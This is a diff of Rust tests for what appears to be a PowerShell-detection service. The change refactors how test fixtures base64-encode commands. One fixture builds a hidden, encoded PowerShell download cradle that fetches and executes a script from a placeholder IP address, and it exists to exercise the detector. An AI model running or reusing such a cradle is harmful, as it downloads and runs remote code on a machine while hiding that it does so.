@@ -77,10 +77,9 @@ async fn get(s: &Svc, uri: &str, token: &str) -> (StatusCode, Value) {
 /// `powershell -enc` of a download cradle.
 fn encoded_cradle() -> String {
     let script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')";
-    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     format!(
         "powershell.exe -NoP -W Hidden -enc {}",
-        warden_payload::deobf::codec::to_base64(&utf16)
+        warden_payload::deobf::codec::encoded_command(script)
     )
 }
 
@@ -579,10 +578,9 @@ fn sysmon_process(record: u64, cmd: &str) -> Value {
 async fn the_rules_count_once_on_posted_events_and_run_on_submitted_text_as_written() {
     let s = svc_with_canary_rule();
     let script = "Get-WardenCanary -Now";
-    let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
     let encoded = format!(
         "powershell.exe -enc {}",
-        warden_payload::deobf::codec::to_base64(&utf16)
+        warden_payload::deobf::codec::encoded_command(script)
     );
     let clear = format!("powershell.exe -c {script}");
     let body = json!({"events": [sysmon_process(81, &encoded), sysmon_process(82, &clear)]});
